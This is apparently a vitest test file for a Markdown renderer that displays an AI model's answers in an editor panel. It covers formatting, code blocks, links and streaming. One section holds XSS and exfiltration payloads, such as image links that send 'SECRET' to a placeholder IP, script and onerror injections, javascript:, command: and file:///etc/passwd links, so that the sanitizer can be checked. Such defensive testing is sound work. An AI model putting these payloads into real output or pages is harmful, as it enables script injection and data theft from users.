// @vitest-environment jsdom
import { beforeEach, describe, expect, test } from "vitest";
import type { Said } from "../../src/explain/messages";
import { Answer } from "../panel/answer";
import { Page } from "../panel/page";
import { texts } from "./texts";

let said: Said[] = [];
let root: HTMLElement;
beforeEach(() => {
  said = [];
  root = document.createElement("div");
});

function answer(): Answer {
  const page = new Page(texts, (message) => said.push(message), () => undefined);
  page.lineCount = 100;
  return new Answer(page, root, 2);
}

/** The page for a whole text. Buttons and boxes are shown by what they are, so that what is compared can be read. */
function shown(markdown: string): string {
  answer().show(markdown, true);
  return root.innerHTML;
}

describe("Markdown is shown", () => {
  for (const [name, markdown, html] of [
    ["as paragraphs", "a *b* **c** ~~d~~ `e`\nf\n\ng", "<p>a <em>b</em> <strong>c</strong> <s>d</s> <code>e</code>\nf</p><p>g</p>"],
    ["as lists", "- a\n- b\n  1. c\n\n3. d", '<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul><ol start="3"><li>d</li></ol>'],
    ["as headings that follow each other", "### a\n##### b\n# c\n## d", "<h2>a</h2><h3>b</h3><h2>c</h2><h3>d</h3>"],
    ["as quotations and rules", "> a\n\n---", "<blockquote><p>a</p></blockquote><hr>"],
    ["without pictures", "![a picture](https://192.0.2.1/x.png)", "<p>a picture</p>"],
    ["without definitions", "[a]\n\n[a]: https://192.0.2.1/", "<p>[a]</p><p>[a]: https://192.0.2.1/</p>"],
    ["with entities as what they stand for", "&lt;b&gt; &amp; <b>", "<p>&lt;b&gt; &amp; &lt;b&gt;</p>"],
  ] as const) {
    test(name, () => {
      expect(shown(markdown)).toBe(html);
    });
  }

  test("with tables in a box that scrolls", () => {
    shown("| a | b |\n|--|--|\n| 1 | 2 |");
    const box = root.firstElementChild;
    expect([box?.getAttribute("tabindex"), box?.getAttribute("role"), box?.getAttribute("aria-label")]).toEqual(["0", "group", "Table"]);
    expect(box?.innerHTML).toBe("<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>");
  });

  test("with code in colours, to copy and to insert", () => {
    shown("```go\nfunc f() {}\n```");
    expect(root.querySelector("pre")?.textContent).toBe("func f() {}");
    expect(root.querySelector(".hljs-keyword")?.textContent).toBe("func");
    const [copy, insert] = root.querySelectorAll("button");
    copy?.click();
    insert?.click();
    expect(said).toEqual([{ type: "copy", text: "func f() {}" }, { type: "insert", text: "func f() {}" }]);
  });

  for (const language of ["typescriptreact", "shellscript", "py", "c++", "C#", "toml", "html", "dockerfile"]) {
    test(`with code in colours, called ${language}`, () => {
      shown(`\`\`\`${language}\n# "a" 1 <b> FROM x\n\`\`\``);
      expect(root.querySelector("pre span")).not.toBeNull();
    });
  }

  test("with plain code in a language that is not known, or far too long", () => {
    shown("```klingon\nfunc\n```\n\n```go\n" + "func f() {}\n".repeat(5000) + "```");
    expect(root.querySelectorAll("pre")).toHaveLength(2);
    expect(root.querySelector("pre span")).toBeNull();
  });

  test("with links that only tell", () => {
    shown("[x](https://example.com/a?b) <http://example.com>, `main.go:12`, lines 3–5, line 101, [see line 4](https://example.com)");
    for (const link of root.querySelectorAll<HTMLElement>("[role=link]")) {
      link.click();
    }
    expect(said).toEqual([
      { type: "open", url: "https://example.com/a?b" },
      { type: "open", url: "http://example.com" },
      { type: "jump", mention: { path: "main.go", from: 12, to: 12 } },
      { type: "jump", mention: { from: 3, to: 5 } },
      { type: "open", url: "https://example.com" },
    ]);
    expect(root.querySelector<HTMLElement>("[role=link]")?.title).toBe("https://example.com/a?b");
  });
});

describe("nothing of a model's text reaches out or runs", () => {
  const allowed = new Set("P UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD EM STRONG S CODE PRE HR BR H2 H3 H4 H5 H6 DIV SPAN BUTTON".split(" "));
  const attributes = new Set(["class", "title", "role", "type", "tabindex", "aria-label", "translate", "start"]);

  for (const markdown of [
    "![x](http://192.0.2.1/?q=SECRET) [![x](http://192.0.2.1/a.png)](http://192.0.2.1/)",
    "![x][r]\n\n[r]: http://192.0.2.1/?q=SECRET",
    "<img src=http://192.0.2.1/ onerror=alert(1)>\n\n<svg onload=alert(1)>\n\n<script>alert(1)</script>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe><style>@import url(http://192.0.2.1/);</style>",
    "</textarea></script></code></pre><img src=http://192.0.2.1/>",
    "[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,x) [d](file:///etc/passwd) [e](command:x) [f](vscode://file/x)",
    "[a](CoMmAnD:x) [b](&#99;ommand:x) [c](command&colon;x) [d](\tcommand:x) [e](<command\n:x>)",
    "<command:x> <javascript:alert(1)> <vscode-insiders://x> <data:text/html,x>",
    "[x](//192.0.2.1/a) [y](\\\\192.0.2.1\\share) [z](/a) [m](mailto:a@b.c) [h](#x)",
    "```\"><img src=x onerror=alert(1)>\n<img src=http://192.0.2.1/>\n```",
    "```html\n<script src=http://192.0.2.1/></script>\n```\n\n```mermaid\nclick A \"http://192.0.2.1/\"\n```",
    "a | b\n--|--\n`a | ![x](http://192.0.2.1/)` | [y](command:x)",
    "[x](https://192.0.2.1/\"onclick=\"alert(1)) [y](https://e.com/'><script>alert(1)</script>)",
    "**![x](http://192.0.2.1/)** # ![x](http://192.0.2.1/)\n===",
    "\u202e} ;0 nruter \u0000\u001b[2J \ud800",
    "__proto__ constructor [x](__proto__)\n\n```__proto__\nx\n```\n\n```constructor\nx\n```",
  ]) {
    test(JSON.stringify(markdown).slice(0, 90), () => {
      shown(markdown);
      for (const element of root.querySelectorAll("*")) {
        expect(allowed, element.outerHTML).toContain(element.tagName);
        for (const { name } of element.attributes) {
          expect(attributes, element.outerHTML).toContain(name);
        }
      }
      for (const button of root.querySelectorAll("button")) {
        button.click();
      }
      expect(said.filter((message) => message.type === "open" && !/^https?:/.test(message.url))).toEqual([]);
    });
  }
});

describe("an answer that comes in pieces", () => {
  const texts = [
    "# A\n\npara\n#\n123 #x\n\n- a\n- b\n\n  more\n\n-- x\n\n1. one\n10. ten\n",
    "para\n--\n\n    code\n\n```go\nfunc f() {\n\n}\n```\ntext\n~~~\nopen",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n> q\nlazy\n\n***\n* * *\n+ x\n+ y\n",
    "a\n- b\n- c\n\n\n- d\n\n1) e\n2) f\n\nend `code\nover` lines **b\nold**",
    "\n\n   \n    indented at once\n\ntext\n===\n## h ##\nx\n",
    "\ttab code\n\n- \n-\n- a\n-\n",
  ];
  for (const text of texts) {
    test(`is what it is whole: ${JSON.stringify(text).slice(0, 60)}`, () => {
      const whole = shown(text);
      for (let size = 1; size <= 7; size++) {
        root.replaceChildren();
        const streamed = answer();
        for (let at = size; at < text.length; at += size) {
          streamed.show(text.slice(0, at), false);
        }
        streamed.show(text, true);
        expect(root.innerHTML, `in pieces of ${size}`).toBe(whole);
      }
    });
  }

  for (const [cut, html] of [
    ["It is **within", "<p>It is <strong>within</strong></p>"],
    ["It is **within ", "<p>It is <strong>within</strong></p>"],
    ["It is **within*", "<p>It is <strong>within</strong></p>"],
    ["It is **", "<p>It is</p>"],
    ["It is **bold**", "<p>It is <strong>bold</strong></p>"],
    ["It is **bold** and *it", "<p>It is <strong>bold</strong> and <em>it</em></p>"],
    ["**bold *and `code", "<p><strong>bold <em>and <code>code</code></em></strong></p>"],
    ["`a * b` is ~~wro", "<p><code>a * b</code> is <s>wro</s></p>"],
    ["``a ` b", "<p><code>a ` b</code></p>"],
    ["a * b, 2*3, snake_case", "<p>a * b, 2*3, snake_case</p>"],
    ["\\*no \\`mark", "<p>*no `mark</p>"],
    ["see [the docs](https://exam", "<p>see the docs</p>"],
    ["- one\n- **two", "<ul><li>one</li><li><strong>two</strong></li></ul>"],
    ["> # **Ti", "<blockquote><h2><strong>Ti</strong></h2></blockquote>"],
    ["***a** b", "<p>*<strong>a</strong> b</p>"],
  ] as const) {
    test(`has no half marks while it is ${JSON.stringify(cut)}, nor when it was stopped there`, () => {
      answer().show(cut, false);
      expect(root.innerHTML).toBe(html);
      root.replaceChildren();
      answer().show(cut, true, true);
      expect(root.innerHTML).toBe(html);
    });
  }

  test("keeps its marks in code", () => {
    const streamed = answer();
    streamed.show("text\n\n```go\nx := **p", false);
    expect(root.querySelector("pre")?.textContent).toBe("x := **p");
  });

  test("begins anew where it was void", () => {
    const streamed = answer();
    streamed.show("# No\n\ntext\n\nmore", false);
    streamed.show("It", false);
    streamed.show("It adds.", true);
    expect(root.innerHTML).toBe("<p>It adds.</p>");
  });

  test("lets code be taken only when it is whole", () => {
    const streamed = answer();
    streamed.show("```go\nfunc", false);
    expect(root.querySelector("button")).toBeNull();
    streamed.show("```go\nfunc f() {}\n```\nso", false);
    expect(root.querySelector("button")).toBeNull(); // "so" might still become another line of the fence's end
    streamed.show("```go\nfunc f() {}\n```\nso\n", false);
    expect(root.querySelectorAll("button")).toHaveLength(2);
  });

  test("makes anew only what is not settled", () => {
    const streamed = answer();
    streamed.show("a\n\nb\n\nc", false);
    const first = root.firstChild;
    streamed.show("a\n\nb\n\nc d", false);
    expect(root.firstChild).toBe(first);
  });
});
